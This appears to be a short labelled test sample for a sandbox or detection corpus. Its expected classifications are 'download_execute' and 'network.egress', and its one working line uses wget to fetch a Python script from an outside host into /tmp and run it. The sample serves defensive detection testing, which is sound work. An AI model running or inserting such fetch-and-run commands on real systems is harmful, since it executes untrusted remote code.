# scenario: 02 untrusted-installation
# expect: download_execute network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Downloads a Python agent and runs it.
wget -q -T 3 -O /tmp/agent.py http://cdn.example-updates.net/agent.py && python3 /tmp/agent.py
echo "exit: $?"
